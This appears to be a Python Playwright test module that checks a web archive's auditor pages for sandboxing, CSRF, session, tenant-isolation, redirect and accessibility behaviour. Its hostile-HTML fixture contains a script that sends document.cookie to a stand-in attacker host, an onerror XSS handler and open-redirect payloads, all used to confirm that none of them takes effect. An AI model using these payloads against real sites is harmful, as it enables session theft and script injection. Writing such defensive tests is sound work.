"""The auditors' pages in a real browser: headless Chromium (Debian's ``chromium`` package)
driven by Playwright, against Amber served by uvicorn in this process.

Without a browser these tests skip with the reason; ``AMBER_REQUIRE_SERVICES=1`` (CI) turns
that into a failure. Each page is checked with axe-core (``axe-playwright-python``) for
critical and serious violations, and photographed at desktop width and at 360 px under
``test-artifacts/screenshots`` (``AMBER_SCREENSHOT_DIR`` elsewhere), which CI keeps.
"""

from __future__ import annotations

import os
import shutil
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pytest
import uvicorn
from conftest import service_unavailable
from live_server import free_port
from sqlalchemy import update

from api.app import create_app
from archive.archive import Archive
from archive.config import Settings
from archive.dates import utc_now
from archive.index.schema import sessions

CHROMIUM = os.environ.get("AMBER_CHROMIUM", "/usr/bin/chromium")
SCREENSHOTS = Path(
    os.environ.get(
        "AMBER_SCREENSHOT_DIR", Path(__file__).resolve().parents[1] / "test-artifacts/screenshots"
    )
)
ATTACKER = "http://attacker.invalid"
TRANSCRIPT = "t-browser"
HOSTILE_HTML = f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=/healthz?refreshed=1"><title>Captured</title></head>
<body><p>The council voted to expand the night bus network in 2025.</p>
<script>document.title = 'pwned';
new Image().src = '{ATTACKER}/steal?c=' + encodeURIComponent(document.cookie);
alert('script ran');</script>
<img src="x" onerror="document.title = 'pwned'; alert('handler ran')">
</body></html>"""
PLAIN = "Profits <script>alert(1)</script> rose 5% in 2024, the board said on Tuesday."
MARKUP_QUOTE = "<script>alert(1)</script> rose 5% in 2024"


@dataclass
class Served:
    base: str
    archive: Archive
    auditor: str
    stranger: str
    document_id: str
    passage_ids: list[str]
    citation_ids: list[str]
    document_uri_r: str
    erased_id: str
    attacker_requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)  # alert() and friends that ran


def _playwright() -> Any:
    if not Path(CHROMIUM).exists():
        service_unavailable(f"no Chromium at {CHROMIUM} (apt-get install chromium)")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        service_unavailable("Playwright is not installed (pip install -e '.[test]')")
    return sync_playwright


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    sync_playwright = _playwright()
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    settings = Settings(
        data_dir=tmp_path_factory.mktemp("ui-browser"),
        public_base_url=base,
        rate_limit_per_second=0,
        # The module signs in more than ten times a minute on a quiet machine; the sign-in
        # limit has its own test (tests/test_ui.py).
        login_attempts_per_minute=10_000,
    )
    archive = Archive.open(settings)
    server = uvicorn.Server(
        uvicorn.Config(create_app(settings, archive=archive), port=port, log_level="warning")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        assert time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    try:
        yield _populate(base, archive)
    finally:
        server.should_exit = True
        thread.join(10)
        archive.close()


def _populate(base: str, archive: Archive) -> Served:
    agent = {"Authorization": f"Bearer {archive.keys.create('acme', 'agent').key}"}
    document_uri_r = "https://news.example/council?id=7&lang=en"
    with httpx.Client(base_url=base, headers=agent) as api:
        made = api.post(
            "/api/v1/mementos",
            json={
                "uri_r": document_uri_r,
                "content": HOSTILE_HTML,
                "content_type": "text/html; charset=utf-8",
                "captured_at": "2025-03-01T09:30:00Z",
                "tool": "http.get",
            },
        )
        assert made.status_code == 201, made.text
        assert api.put(f"/api/v1/transcripts/{TRANSCRIPT}", json={"labels": {"run": "r-1"}})
        cited = api.post(
            f"/api/v1/transcripts/{TRANSCRIPT}/citations",
            json={
                "run_id": "r-1",
                "citations": [
                    {
                        "memento_id": made.json()["id"],
                        "quote": {"exact": "voted to expand the night bus network"},
                    },
                    {
                        "source": {
                            "uri_r": "https://markets.example/q2",
                            "content": PLAIN,
                            "content_type": "text/plain",
                            "captured_at": "2025-04-02T10:00:00Z",
                            "tool": "http.get",
                        },
                        "quote": {"exact": MARKUP_QUOTE},
                    },
                ],
            },
        )
        assert cited.status_code == 201, cited.text
        erased = api.post(
            "/api/v1/mementos",
            json={
                "uri_r": "https://private.example/person",
                "content": "A private person's address, erased on request.",
                "content_type": "text/plain",
                "captured_at": "2025-02-01T08:00:00Z",
            },
        )
        assert erased.status_code == 201, erased.text
    archive.retention.erase("acme", erased.json()["id"], "subject request 42", "admin")
    found = cited.json()["citations"]
    return Served(
        base=base,
        archive=archive,
        auditor=archive.keys.create("acme", "auditor").key,
        stranger=archive.keys.create("other", "auditor").key,
        document_id=made.json()["id"],
        passage_ids=[c["uri_m"].rsplit("/", 1)[1] for c in found],
        citation_ids=[c["id"] for c in found],
        document_uri_r=document_uri_r,
        erased_id=erased.json()["id"],
    )


@pytest.fixture()
def page(browser: Any, served: Served) -> Iterator[Any]:
    context = browser.new_context()
    opened = context.new_page()

    def on_dialog(dialog: Any) -> None:
        served.dialogs.append(dialog.message)
        dialog.dismiss()

    opened.on("dialog", on_dialog)
    context.route(
        f"{ATTACKER}/**",
        lambda route: (served.attacker_requests.append(route.request.url), route.abort()),
    )
    yield opened
    context.close()


def sign_in(page: Any, served: Served, key: str, next_path: str = "/ui/") -> None:
    page.goto(f"{served.base}/ui/login?next={quote(next_path, safe='')}")
    page.fill("#key", key)
    page.click("button[type=submit]")
    # The click only starts the sign-in: wait until its redirect has landed, or the next step
    # races it (a Tab pressed while the login page is still shown).
    page.wait_for_url(lambda url: "/ui/login" not in url)


def test_a_signed_out_click_on_a_uri_m_signs_in_and_lands_on_the_bytes(
    page: Any, served: Served
) -> None:
    uri_m = f"{served.base}/memento/{served.passage_ids[1]}"
    page.set_content(f'<a id="cite" href="{uri_m}">citation</a>')
    page.click("#cite")
    page.wait_for_url(f"{served.base}/ui/login?next=*")
    page.fill("#key", served.auditor)
    page.click("button[type=submit]")
    page.wait_for_url(uri_m)
    assert MARKUP_QUOTE in page.inner_text("body")
    # The bytes are served sandboxed (an opaque origin): the cookie is out of their reach.
    with pytest.raises(Exception, match="sandboxed"):
        page.evaluate("document.cookie")
    page.goto(f"{served.base}/ui/")
    assert page.evaluate("document.cookie") == ""  # HttpOnly: no script of ours reads it


def test_captured_script_handlers_and_refresh_run_nowhere(page: Any, served: Served) -> None:
    page.set_content("<script>alert('control')</script>")  # the watch does see a script run
    assert served.dialogs == ["control"]
    served.dialogs.clear()
    sign_in(page, served, served.auditor)
    page.goto(f"{served.base}/memento/{served.document_id}")  # the raw bytes, top level
    page.wait_for_timeout(300)
    assert page.url == f"{served.base}/memento/{served.document_id}"  # no meta refresh
    assert page.title() == "Captured"
    page.goto(f"{served.base}/ui/mementos/{served.document_id}")  # in the sandboxed frame
    frame = page.frame_locator("iframe.document")
    assert "night bus" in frame.locator("p").inner_text()
    page.wait_for_timeout(300)
    assert page.title().startswith("Memento")
    page.goto(f"{served.base}/ui/transcripts/{TRANSCRIPT}")
    quotes = page.locator("blockquote.quote").all_inner_texts()
    assert MARKUP_QUOTE in quotes
    page.goto(f"{served.base}/ui/mementos/{served.passage_ids[1]}")
    assert page.inner_text("mark") == MARKUP_QUOTE
    assert served.attacker_requests == []
    assert served.dialogs == []


def test_verification_turns_to_a_cross_when_a_blob_is_corrupted(
    page: Any, served: Served, tmp_path: Path
) -> None:
    sign_in(page, served, served.auditor, f"/ui/transcripts/{TRANSCRIPT}")
    citation = page.locator(f'[data-citation-id="{served.citation_ids[1]}"]')
    assert citation.get_attribute("data-verified") == "true"
    assert citation.get_attribute("data-drift") == "unchecked"
    assert "✓" in citation.inner_text()
    passage = served.archive.get_memento("acme", served.passage_ids[1])
    blob = _blob_path(served.archive, passage.content_hash)
    kept = tmp_path / "kept"
    shutil.copy2(blob, kept)
    try:
        blob.chmod(0o644)
        blob.write_bytes(b"tampered")
        page.reload()
        assert citation.get_attribute("data-verified") == "false"
        assert "✗" in citation.inner_text()
        first = page.locator(f'[data-citation-id="{served.citation_ids[0]}"]')
        assert first.get_attribute("data-verified") == "true"
    finally:
        shutil.copy2(kept, blob)


def _blob_path(archive: Archive, address: str) -> Path:
    root = Path(urlsplit(archive.settings.resolved_blob_store).path)
    digest = address.split(":", 1)[1]
    found = [p for p in root.rglob("*") if p.is_file() and digest in p.name]
    assert len(found) == 1, found
    return found[0]


def test_forms_without_their_csrf_token_are_refused(page: Any, served: Served) -> None:
    sign_in(page, served, served.auditor)
    page.evaluate("document.querySelector('form.signout input[name=csrf]').value = ''")
    with page.expect_response(f"{served.base}/ui/logout") as refused:
        page.click("form.signout button")
    assert refused.value.status == 403
    page.goto(f"{served.base}/ui/")
    assert page.url == f"{served.base}/ui/"  # still signed in
    # Sign-in forced from another site (login CSRF) is refused too.
    page.set_content(
        f'<form method="post" action="{served.base}/ui/login">'
        f'<input name="key" value="{served.stranger}"><input name="csrf" value="x">'
        '<button id="go">go</button></form>'
    )
    with page.expect_response(f"{served.base}/ui/login") as forced:
        page.click("#go")
    assert forced.value.status == 403


def test_a_revoked_keys_session_ends(browser: Any, served: Served) -> None:
    context = browser.new_context()
    page = context.new_page()
    key = served.archive.keys.create("acme", "auditor")
    sign_in(page, served, key.key)
    assert page.url == f"{served.base}/ui/"
    served.archive.keys.revoke(key.info.key_id)
    page.goto(f"{served.base}/ui/transcripts/{TRANSCRIPT}")
    assert urlsplit(page.url).path == "/ui/login"
    response = page.goto(f"{served.base}/memento/{served.passage_ids[0]}")
    assert urlsplit(page.url).path == "/ui/login" and response.status == 200
    context.close()


def test_another_tenants_transcript_and_its_pages_are_404(page: Any, served: Served) -> None:
    sign_in(page, served, served.stranger)
    for path in (
        f"/ui/transcripts/{TRANSCRIPT}",
        f"/ui/mementos/{served.passage_ids[0]}",
        f"/memento/{served.passage_ids[0]}",
        f"/ui/citations/{served.citation_ids[0]}/drift",
    ):
        assert page.goto(served.base + path).status == 404, path


@pytest.mark.parametrize(
    "attempt",
    ["//attacker.invalid/x", "https://attacker.invalid/", "/\\attacker.invalid", "javascript:1"],
)
def test_next_cannot_send_the_browser_elsewhere(page: Any, served: Served, attempt: str) -> None:
    sign_in(page, served, served.auditor, attempt)
    page.wait_for_load_state()
    assert page.url == f"{served.base}/ui/"
    assert served.attacker_requests == []


def test_an_idle_session_expires(page: Any, served: Served) -> None:
    sign_in(page, served, served.auditor)
    assert page.url == f"{served.base}/ui/"
    with served.archive.index.write() as connection:  # as if idle past the limit
        connection.execute(
            update(sessions).values(idle_expires_at=utc_now() - timedelta(seconds=1))
        )
    page.goto(f"{served.base}/ui/transcripts/{TRANSCRIPT}")
    assert urlsplit(page.url).path == "/ui/login"


def test_every_page_passes_axe_and_is_photographed(browser: Any, served: Served) -> None:
    from axe_playwright_python.sync_playwright import Axe

    pages = {
        "login": "/ui/login",
        "home": "/ui/",
        "transcript": f"/ui/transcripts/{TRANSCRIPT}",
        "memento-passage": f"/ui/mementos/{served.passage_ids[1]}",
        "memento-document": f"/ui/mementos/{served.document_id}",
        "timemap": f"/ui/timemaps/{served.document_uri_r}",
        "drift": "/ui/drift",
        "citation-drift": f"/ui/citations/{served.citation_ids[0]}/drift",
        "tombstone": f"/ui/mementos/{served.erased_id}",
        "not-found": "/ui/transcripts/no-such-transcript",
        "admin": "/ui/admin/",
    }
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    axe = Axe()
    problems: dict[str, list[str]] = {}
    for width, height, suffix in ((1280, 900, "desktop"), (360, 780, "360px")):
        context = browser.new_context(viewport={"width": width, "height": height})
        page = context.new_page()
        for name, path in pages.items():
            if name == "home":
                sign_in(page, served, served.auditor)
            if name == "admin":
                context.clear_cookies()
                sign_in(page, served, served.archive.keys.create("acme", "admin").key)
            page.goto(served.base + path)
            if name == "memento-document":
                page.frame_locator("iframe.document").locator("p").wait_for()
            page.screenshot(path=str(SCREENSHOTS / f"{name}-{suffix}.png"), full_page=True)
            if name == "transcript" and suffix == "desktop":  # auditors file it as a PDF
                page.emulate_media(media="print")
                assert not page.locator("header.site").is_visible()
                assert not page.locator("button.copy").first.is_visible()
                page.pdf(path=str(SCREENSHOTS / "transcript-print.pdf"))
                page.emulate_media(media="screen")
            if suffix == "desktop":
                found = axe.run(page).response["violations"]
                bad = [v["id"] for v in found if v.get("impact") in ("critical", "serious")]
                if bad:
                    problems[name] = bad
            else:  # readable at 360 px: nothing wider than the screen
                assert page.evaluate("document.documentElement.scrollWidth") <= width, name
        context.close()
    assert problems == {}


def test_the_keyboard_reaches_the_skip_link_first(page: Any, served: Served) -> None:
    sign_in(page, served, served.auditor)
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
